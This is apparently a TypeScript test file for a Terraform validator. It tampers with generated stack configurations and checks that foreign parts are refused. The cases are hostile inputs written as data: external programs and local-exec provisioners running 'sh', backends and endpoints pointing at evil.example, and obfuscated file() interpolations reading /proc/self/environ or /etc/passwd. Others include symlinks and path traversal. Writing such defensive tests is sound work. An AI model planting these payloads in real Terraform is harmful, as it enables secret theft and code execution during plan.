/** A synthesis of other code is data: what `terraform plan` would run or read of it beside AWS is refused. */

import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as fc from "fast-check";
import { validateFile, validateSource } from "../../src/answers/validate";
import { Source } from "../../src/config/source";
import { foreignParts } from "../../src/terraform/foreign-synthesis";
import { repository, validText } from "../config/valid";
import { withTerraform } from "../permissions/remote";
import { synthesize } from "../synthesize";

const directory = mkdtempSync(join(tmpdir(), "strongroom-foreign-"));
let count = 0;

afterAll(() => rmSync(directory, { recursive: true, force: true }));

function output(result: ReturnType<typeof validateSource>["result"], providerLock?: string): string {
  if (!result) {
    throw new Error("the config has errors");
  }
  const outputDirectory = join(directory, `${(count += 1)}.out`);
  synthesize({ ...result, outputDirectory, awsProviderVersion: undefined, providerLock });
  return outputDirectory;
}

const texts: readonly (readonly [string, string])[] = [
  ["local state", validText],
  ["S3 state", withTerraform(validText, { state: { type: "s3", bucket: "acme-tfstate", region: "eu-central-1" } })],
  [
    "S3 state with key, role and a plan role",
    withTerraform(validText, {
      state: {
        type: "s3",
        bucket: "acme-tfstate",
        region: "eu-central-1",
        kmsKeyId: "alias/state",
        roleArn: "arn:aws:iam::111111111111:role/State",
      },
      planRoleName: "StrongroomPlan",
    }),
  ],
  [
    "HCP Terraform",
    withTerraform(validText, {
      state: { type: "cloud", organization: "acme", project: "Backup", workspacePrefix: "backup-" },
      tags: { Owner: '${file("/etc/passwd")}' },
    }),
  ],
  ["region on resources", withTerraform(validText, { regionStrategy: "resourceRegion" })],
  [
    "imports",
    withTerraform(validText, {
      imports: [
        {
          stack: "central-vault",
          to: "aws_backup_vault_lock_configuration.lock-eu-central-1",
          id: "org-central-vault",
        },
      ],
    }),
  ],
];
const valid = output(validateSource(new Source("org.yaml", validText)).result, "# lock\n");

test.each(texts)("our own synthesis is known: %s", (_name, text) => {
  expect(foreignParts(output(validateSource(new Source("org.yaml", text)).result))).toEqual([]);
});

test.each(readdirSync(join(repository, "examples")))("our own synthesis is known: %s", (name) => {
  expect(foreignParts(output(validateFile(join(repository, "examples", name)).result))).toEqual([]);
});

test("a lock file of the providers belongs to it", () => expect(foreignParts(valid)).toEqual([]));

type Configuration = Record<string, Record<string, unknown>>;

/** The same output with another configuration of one stack. */
function withStack(change: (configuration: Configuration) => void, id = "organization"): string {
  const copy = join(directory, `${(count += 1)}.out`);
  cpSync(valid, copy, { recursive: true });
  const file = join(copy, "stacks", id, "cdk.tf.json");
  const configuration = JSON.parse(readFileSync(file, "utf8")) as Configuration;
  change(configuration);
  writeFileSync(file, JSON.stringify(configuration));
  return copy;
}

const description = (text: string) => (configuration: Configuration) => {
  configuration.output = { leak: { value: text } };
};

test.each<[string, (configuration: Configuration) => void, RegExp]>([
  ["a module", (one) => (one.module = { x: { source: "evil/x" } }), /: module is not known here/],
  ["locals", (one) => (one.locals = { x: 1 }), /: locals is not known here/],
  ["a program as data", (one) => (one.data = { external: { x: { program: ["sh"] } } }), /data\.external is a type/],
  ["a request as data", (one) => (one.data = { http: { x: { url: "https://evil.example" } } }), /data\.http is a type/],
  ["a file as data", (one) => (one.data = { local_file: { x: {} } }), /data\.local_file is a type/],
  [
    "a function of AWS as data, which is called while Terraform plans",
    (one) => (one.data = { aws_lambda_invocation: { x: {} } }),
    /data\.aws_lambda_invocation is a type/,
  ],
  ["a resource of another provider", (one) => (one.resource = { null_resource: { x: {} } }), /null_resource is a type/],
  [
    "a program beside a resource",
    (one) => (one.resource = { terraform_data: { x: { provisioner: { "local-exec": { command: "sh" } } } } }),
    /terraform_data\.x\.provisioner is not known/,
  ],
  [
    "the same in a list",
    (one) => (one.resource = { aws_iam_role: { x: [{ provisioner: [{}] }] } }),
    /aws_iam_role\.x\.provisioner is not known/,
  ],
  ["another provider", (one) => (one.provider = { external: {} }), /provider\.external is not known/],
  [
    "an endpoint of its own",
    (one) => (one.provider = { aws: [{ region: "eu-central-1", endpoints: [{ sts: "https://evil.example" }] }] }),
    /provider\.aws\[0\]\.endpoints is not known/,
  ],
  ["a profile", (one) => (one.provider = { aws: { profile: "other" } }), /provider\.aws\.profile is not known/],
  [
    "credentials from elsewhere",
    (one) => (one.provider = { aws: { assume_role_with_web_identity: {} } }),
    /assume_role_with_web_identity is not known/,
  ],
  [
    "the provider of somebody else",
    (one) => (one.terraform = { required_providers: { aws: { source: "evil/aws" } } }),
    /required_providers\.aws\.source is "evil\/aws"/,
  ],
  [
    "one more provider",
    (one) => (one.terraform = { required_providers: { evil: { source: "evil/evil" } } }),
    /required_providers\.evil is not known/,
  ],
  [
    "state at a web server",
    (one) => (one.terraform = { backend: { http: { address: "https://evil.example" } } }),
    /backend\.http is not known/,
  ],
  [
    "state in any file",
    (one) => (one.terraform = { backend: { local: { path: "/proc/self/environ" } } }),
    /backend\.local\.path is/,
  ],
  [
    "state at an endpoint of its own",
    (one) => (one.terraform = { backend: { s3: { endpoints: { s3: "https://evil.example" } } } }),
    /backend\.s3\.endpoints is not known/,
  ],
  [
    "the state of another stack at a web server",
    (one) => (one.data = { terraform_remote_state: { x: { backend: "http", config: {} } } }),
    /terraform_remote_state\.x\.backend is "http"/,
  ],
  [
    "the state of another stack in any file",
    (one) => (one.data = { terraform_remote_state: { x: { backend: "local", config: { path: "/etc/passwd" } } } }),
    /config\.path is/,
  ],
  ["a file in an output", description('${file("/proc/self/environ")}'), /output\.leak\.value has an expression/],
  ["a file by a space", description('${ file ("/proc/self/environ") }'), /has an expression/],
  ["a file behind a brace in quotes", description('${"}" == file("/x") ? 1 : 2}'), /has an expression/],
  ["a file by a comment", description('${file/**/("/x")}'), /has an expression/],
  ["a file by a directive", description('%{ if file("/x") == "" }a%{ endif }'), /has an expression/],
  ["a template of a file", description('${templatefile("/x", {})}'), /has an expression/],
  ["a function of a provider", description('${provider::evil::leak("x")}'), /has an expression/],
  ["an escape of an escape", description('$$${file("/x")}'), /has an expression/],
  ["an expression as a key", (one) => (one.output = { leak: { value: { '${file("/x")}': 1 } } }), /has an expression/],
  [
    "a key of JavaScript",
    (one) => Object.defineProperty(one, "constructor", { value: {}, enumerable: true }),
    /constructor/,
  ],
  ["a variable that the environment sets", (one) => (one.variable = { x: {} }), /variable\.x is not known/],
])("%s is refused", (_words, change, words) => {
  expect(foreignParts(withStack(change)).join("\n")).toMatch(words);
});

test.each<[string, (home: string) => void, RegExp]>([
  [
    "another configuration",
    (home) => writeFileSync(join(home, "stacks/organization/evil.tf"), ""),
    /evil\.tf: does not/,
  ],
  ["an override", (home) => writeFileSync(join(home, "stacks/encryption/x_override.tf.json"), "{}"), /override/],
  ["values of variables", (home) => writeFileSync(join(home, "stacks/encryption/x.auto.tfvars"), ""), /tfvars/],
  [
    "what Terraform has installed",
    (home) => mkdirSync(join(home, "stacks/encryption/.terraform")),
    /\.terraform: does not/,
  ],
  [
    "a link",
    (home) => {
      rmSync(join(home, "stacks/encryption/cdk.tf.json"));
      symlinkSync("/proc/self/environ", join(home, "stacks/encryption/cdk.tf.json"));
    },
    /cdk\.tf\.json: is a link/,
  ],
  ["a link to a directory", (home) => symlinkSync("/", join(home, "stacks/root")), /root: is a link/],
  ["a file at the top", (home) => writeFileSync(join(home, ".terraformrc"), ""), /\.terraformrc: does not/],
])("%s beside a stack is refused", (_words, change, words) => {
  const home = withStack(() => undefined);
  change(home);
  expect(foreignParts(home).join("\n")).toMatch(words);
});

test("a stack whose id leads elsewhere is refused", () => {
  const home = withStack(() => undefined);
  writeFileSync(join(home, "manifest.json"), JSON.stringify({ stacks: { "../../etc": {} } }));
  expect(foreignParts(home)).toEqual(['manifest.json: "../../etc" is no id of a stack']);
});

test("whatever a block of Terraform's own, of the provider or of the state has besides is refused", () => {
  const places: readonly (readonly string[])[] = [
    [],
    ["terraform"],
    ["terraform", "required_providers"],
    ["terraform", "required_providers", "aws"],
    ["terraform", "backend"],
    ["terraform", "backend", "local"],
    ["provider"],
    ["provider", "aws", "0"],
    ["provider", "aws", "0", "assume_role", "0"],
  ];
  const key = fc.stringMatching(/^[a-z_]{12,20}$/);
  fc.assert(
    fc.property(fc.constantFrom(...places), key, fc.json(), (place, name, value) => {
      const home = withStack((configuration) => {
        const at = place.reduce<Record<string, unknown>>(
          (one, step) => one[step] as Record<string, unknown>,
          configuration,
        );
        at[name] = JSON.parse(value);
      });
      expect(foreignParts(home).join("\n")).toContain(name);
      rmSync(home, { recursive: true });
    }),
    { numRuns: 60 },
  );
});
